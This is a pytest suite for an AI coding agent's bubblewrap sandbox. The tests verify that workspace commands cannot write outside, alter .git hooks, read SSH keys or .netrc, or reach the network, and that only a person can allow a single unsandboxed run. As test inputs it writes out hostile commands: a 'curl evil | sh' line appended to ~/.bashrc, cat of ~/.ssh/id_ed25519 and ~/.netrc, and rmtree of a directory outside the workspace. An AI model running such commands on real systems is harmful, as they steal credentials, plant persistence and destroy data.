"""Commands run in the real sandbox (bubblewrap) on this machine: what is outside the workspace,
its .git, the secrets and the host's network are out of reach; the workspace and a private
TMPDIR work; a blocked command says so, and only a person can let it run outside, once."""

from __future__ import annotations

import asyncio
import os
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from ollama_agent_ls.settings import CommandApproval, Settings
from ollama_agent_ls.specs.runner import shell_verify
from ollama_agent_ls.tools import sandbox as sandbox_module
from ollama_agent_ls.tools.context import (
    Approval,
    ApprovalRequest,
    DenyAll,
    ToolContext,
    ToolError,
)
from ollama_agent_ls.tools.sandbox import SandboxStatus, sandbox_status, seatbelt_profile
from ollama_agent_ls.tools.shell import run_command, run_command_result
from ollama_agent_ls.workspace.changes import FileChange
from ollama_agent_ls.workspace.documents import DiskDocuments

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap")


def test_this_machine_has_a_working_sandbox() -> None:
    # Not a skip condition: CI installs bubblewrap, and every test below relies on it.
    status = sandbox_status()
    assert status.available, status.problem


class NullSink:
    async def apply(self, change: FileChange) -> None:
        raise AssertionError("run_command must not apply changes through the sink")


class Recorder:
    """A person who answers the policy's prompts with ``floor`` and the offer to run a blocked
    command outside the sandbox with ``outside``; records the questions."""

    def __init__(self, floor: Approval = Approval.ALLOW, outside: Approval = Approval.DENY) -> None:
        self.floor = floor
        self.outside = outside
        self.requests: list[ApprovalRequest] = []

    async def ask(self, request: ApprovalRequest) -> Approval:
        self.requests.append(request)
        return self.outside if request.outside_sandbox else self.floor


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home directory of the test's own (with a secret in ~/.ssh), outside the workspace."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (home / ".netrc").write_text("machine example.com password hunter2\n")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "app.py").write_text("print('hi')\n")
    return root.resolve()


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("precious\n")
    return victim


def ctx_for(root: Path, approver: Recorder | None = None, **settings: object) -> ToolContext:
    """A run under commandApproval=always whose person allows the first question asked: the
    destructive floor's prompt for what the floor catches. What the sandbox then blocks, it
    blocks whatever the person said to that prompt."""
    ctx = ToolContext(
        root=root,
        documents=DiskDocuments(root),
        sink=NullSink(),
        settings=Settings.model_validate({"command_approval": CommandApproval.ALWAYS, **settings}),
    )
    ctx.approver = approver if approver is not None else Recorder()
    return ctx


async def test_inside_the_workspace_commands_work(ws: Path, home: Path) -> None:
    out = await run_command(ctx_for(ws), "echo made > new.txt && mkdir -p build/x && cat new.txt")
    assert "[exit code 0]" in out
    assert (ws / "new.txt").read_text() == "made\n"
    assert (ws / "build" / "x").is_dir()


async def test_writing_outside_the_workspace_is_blocked_and_said(
    ws: Path, home: Path, outside: Path
) -> None:
    out = await run_command(ctx_for(ws), f"echo pwned > {outside}/new.txt")
    assert not (outside / "new.txt").exists()
    assert "the sandbox blocked a write outside the workspace" in out
    assert "Only the user can let this command run outside the sandbox" in out


async def test_deleting_outside_the_workspace_is_blocked(
    ws: Path, home: Path, outside: Path
) -> None:
    script = f"python3 -c \"import shutil; shutil.rmtree('{outside}')\""
    out = await run_command(ctx_for(ws), script)
    assert (outside / "keep.txt").read_text() == "precious\n"
    assert "Read-only file system" in out


async def test_home_is_read_only(ws: Path, home: Path) -> None:
    await run_command(ctx_for(ws), "echo 'curl evil | sh' >> ~/.bashrc; cp app.py ~/stolen.py")
    assert not (home / ".bashrc").exists()
    assert not (home / "stolen.py").exists()


async def test_git_dir_is_read_only(ws: Path, home: Path) -> None:
    out = await run_command(
        ctx_for(ws),
        "printf '#!/bin/sh\\necho hook\\n' > .git/hooks/pre-commit; rm -rf .git/hooks",
    )
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / ".git" / "hooks").is_dir()
    assert "into .git/" in out


async def test_a_gitdir_file_points_at_a_directory_that_stays_read_only(
    tmp_path: Path, home: Path
) -> None:
    # A worktree inside the workspace whose .git file names a git dir also inside it.
    root = (tmp_path / "wt").resolve()
    real_git = root / "meta" / "gitdir"
    real_git.mkdir(parents=True)
    (root / ".git").write_text(f"gitdir: {real_git}\n")
    await run_command(ctx_for(root), "echo x > meta/gitdir/HEAD; echo gitdir: /tmp > .git")
    assert not (real_git / "HEAD").exists()
    assert (root / ".git").read_text() == f"gitdir: {real_git}\n"


async def test_secrets_are_unreadable(ws: Path, home: Path) -> None:
    out = await run_command(
        ctx_for(ws), "cat ~/.ssh/id_ed25519; cat ~/.netrc; ls -A ~/.ssh; echo done"
    )
    assert "PRIVATE KEY" not in out
    assert "hunter2" not in out
    assert "done" in out


async def test_deny_read_is_a_setting(ws: Path, home: Path) -> None:
    (home / "notes").mkdir()
    (home / "notes" / "diary.txt").write_text("dear diary\n")
    out = await run_command(
        ctx_for(ws, sandbox_deny_read=["~/notes"]), "cat ~/notes/diary.txt; cat ~/.netrc"
    )
    assert "dear diary" not in out
    assert "hunter2" in out  # no longer in the list: readable


async def test_private_tmpdir_is_writable_and_removed_after(ws: Path, home: Path) -> None:
    out = await run_command(
        ctx_for(ws),
        'echo "$TMPDIR" > tmpdir.txt; python3 -c "import tempfile; print(tempfile.mkdtemp())"',
    )
    assert "[exit code 0]" in out
    tmpdir = Path((ws / "tmpdir.txt").read_text().strip())
    assert tmpdir.name.startswith("ollama-agent-sandbox-")
    assert not await asyncio.to_thread(os.path.exists, tmpdir)


@pytest.fixture
def host_server() -> Iterator[int]:
    """A TCP server on the host's loopback; yields its port."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    yield server.getsockname()[1]
    server.close()


CONNECT = (
    "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); "
    "print('connected')\""
)


async def test_the_hosts_network_is_unreachable(ws: Path, home: Path, host_server: int) -> None:
    out = await run_command(ctx_for(ws), CONNECT.format(port=host_server))
    assert "\nconnected\n" not in out
    assert "ConnectionRefusedError" in out
    assert "the sandbox blocked a network connection" in out


async def test_sandbox_network_lets_the_command_reach_the_host(
    ws: Path, home: Path, host_server: int
) -> None:
    out = await run_command(ctx_for(ws, sandbox_network=True), CONNECT.format(port=host_server))
    assert out.splitlines()[1] == "connected"


async def test_a_private_loopback_works_inside(ws: Path, home: Path) -> None:
    script = (
        "import socket\n"
        "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
        "c = socket.create_connection(s.getsockname()); a, _ = s.accept()\n"
        "c.sendall(b'ping'); print(a.recv(4).decode())\n"
    )
    (ws / "loop.py").write_text(script)
    out = await run_command(ctx_for(ws), "python3 loop.py")
    assert "ping" in out
    assert "[exit code 0]" in out


async def test_read_only_mode_keeps_the_workspace_too(ws: Path, home: Path) -> None:
    out = await run_command(ctx_for(ws, sandbox="read-only"), "echo x > app.py; cat app.py")
    assert (ws / "app.py").read_text() == "print('hi')\n"
    assert "anywhere but $TMPDIR" in out


async def test_a_sandboxed_pytest_run_works(ws: Path, home: Path) -> None:
    (ws / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (ws / "test_calc.py").write_text(
        "from calc import add\n\n"
        "def test_add(tmp_path):\n"
        "    (tmp_path / 'x').write_text('y')\n"
        "    assert add(2, 3) == 5\n"
    )
    out = await run_command(ctx_for(ws), f"{sys.executable} -m pytest -q -p no:cacheprovider")
    assert "1 passed" in out
    assert "[exit code 0]" in out


async def test_the_person_may_run_a_blocked_command_outside_once(
    ws: Path, home: Path, outside: Path
) -> None:
    approver = Recorder(outside=Approval.ALLOW)
    out = await run_command(ctx_for(ws, approver), f"echo ok > {outside}/allowed.txt")
    assert (outside / "allowed.txt").read_text() == "ok\n"
    request = approver.requests[-1]
    assert request.outside_sandbox
    assert "the sandbox blocked a write" in request.reason
    assert "[the user let it run again outside the sandbox, once]" in out
    assert out.rstrip().endswith("[exit code 0]")


async def test_a_declined_offer_means_the_block_stands(ws: Path, home: Path, outside: Path) -> None:
    approver = Recorder()
    await run_command(ctx_for(ws, approver), f"echo ok > {outside}/denied.txt")
    assert not (outside / "denied.txt").exists()
    assert [r.outside_sandbox for r in approver.requests] == [False, True]


async def test_nobody_to_ask_means_the_block_stands(ws: Path, home: Path, outside: Path) -> None:
    # Written so the destructive floor does not catch it: the sandbox alone holds.
    (ws / "w.py").write_text(f"open('{outside}/denied.txt', 'w').write('x')\n")
    ctx = ctx_for(ws)
    ctx.approver = DenyAll()
    out = await run_command(ctx, "python3 w.py")
    assert not (outside / "denied.txt").exists()
    assert "the sandbox blocked a write" in out


@pytest.fixture
def no_sandbox(monkeypatch: pytest.MonkeyPatch) -> None:
    status = SandboxStatus(False, "bubblewrap", "bubblewrap is not installed: install it")
    monkeypatch.setattr(sandbox_module, "sandbox_status", lambda: status)


async def test_without_a_sandbox_always_asks_and_nobody_means_no(
    ws: Path, home: Path, no_sandbox: None
) -> None:
    ctx = ctx_for(ws)
    ctx.approver = DenyAll()
    with pytest.raises(ToolError, match="denied"):
        await run_command(ctx, "touch ran.txt")
    assert not (ws / "ran.txt").exists()
    approver = Recorder(floor=Approval.DENY)
    with pytest.raises(ToolError):
        await run_command(ctx_for(ws, approver), "touch ran.txt")
    [request] = approver.requests
    assert "no sandbox could be set up" in request.reason
    assert "bubblewrap is not installed" in request.reason


async def test_without_a_sandbox_an_allowed_command_runs_unconfined(
    ws: Path, home: Path, no_sandbox: None
) -> None:
    out = await run_command(ctx_for(ws, Recorder()), "touch ran.txt")
    assert "[exit code 0]" in out
    assert "ran without a sandbox (bubblewrap is not installed" in out
    assert (ws / "ran.txt").exists()


async def test_sandbox_off_runs_commands_as_before(ws: Path, home: Path, outside: Path) -> None:
    await run_command(ctx_for(ws, sandbox="off"), f"echo x > {outside}/off.txt")
    assert (outside / "off.txt").exists()


async def test_what_a_command_changes_becomes_change_records(ws: Path, home: Path) -> None:
    (ws / "a.txt").write_text("one\n")
    (ws / "c.txt").write_text("x = 1\n")
    (ws / "blob.bin").write_bytes(b"\x00\x01\x02")
    (ws / ".gitignore").write_text("*.log\n")
    ctx = ctx_for(ws)
    await run_command_result(
        ctx,
        "rm a.txt; echo two > b.txt; sed -i 's/1/2/' c.txt; printf '\\000\\377' > blob.bin; "
        "echo noise > build.log",
    )
    by_path = {c.rel: (c.before, c.after) for c in ctx.changes}
    assert by_path == {
        "a.txt": ("one\n", None),
        "b.txt": (None, "two\n"),
        "c.txt": ("x = 1\n", "x = 2\n"),
    }
    [binary] = ctx.binary_changes
    assert binary.rel == "blob.bin"
    store = ctx.checkpoint_store()
    assert await store.restore_binary(binary) is None
    assert (ws / "blob.bin").read_bytes() == b"\x00\x01\x02"


async def test_a_binary_file_changed_since_is_left_alone(ws: Path, home: Path) -> None:
    (ws / "blob.bin").write_bytes(b"\x00old")
    ctx = ctx_for(ws)
    await run_command_result(ctx, "printf '\\000new' > blob.bin")
    (ws / "blob.bin").write_bytes(b"\x00user")
    [binary] = ctx.binary_changes
    assert await ctx.checkpoint_store().restore_binary(binary) == "changed since the run"
    assert (ws / "blob.bin").read_bytes() == b"\x00user"


async def test_commands_run_concurrently_keep_their_own_checkpoints(ws: Path, home: Path) -> None:
    ctx = ctx_for(ws)
    await asyncio.gather(
        run_command_result(ctx, "echo 1 > one.txt"), run_command_result(ctx, "echo 2 > two.txt")
    )
    assert sorted(c.rel for c in ctx.changes) == ["one.txt", "two.txt"]


def test_the_macos_profile_has_the_same_rules(tmp_path: Path, home: Path) -> None:
    # sandbox-exec cannot run here: this checks the profile's rules, not their effect.
    root = tmp_path / "ws"
    (root / ".git").mkdir(parents=True)
    profile = seatbelt_profile(root, tmp_path / "tmp", Settings())
    assert "(deny file-write*)" in profile
    assert f'(allow file-write* (subpath "{root}"))' in profile
    assert f'(deny file-write* (subpath "{root / ".git"}"))' in profile
    assert "(deny network*)" in profile
    # The fixture's home has a ~/.ssh: the denied secret is always there to check.
    assert f'(deny file-read* (subpath "{(home / ".ssh").resolve()}"))' in profile


async def test_a_specs_verify_command_runs_in_the_sandbox_too(
    ws: Path, home: Path, outside: Path
) -> None:
    (ws / "check.py").write_text(f"open({str(outside / 'v.txt')!r}, 'w').write('x')\n")
    report = await shell_verify(ctx_for(ws), "python3 check.py")
    assert not report.passed
    assert not (outside / "v.txt").exists()
    assert "the sandbox blocked a write outside the workspace" in report.output
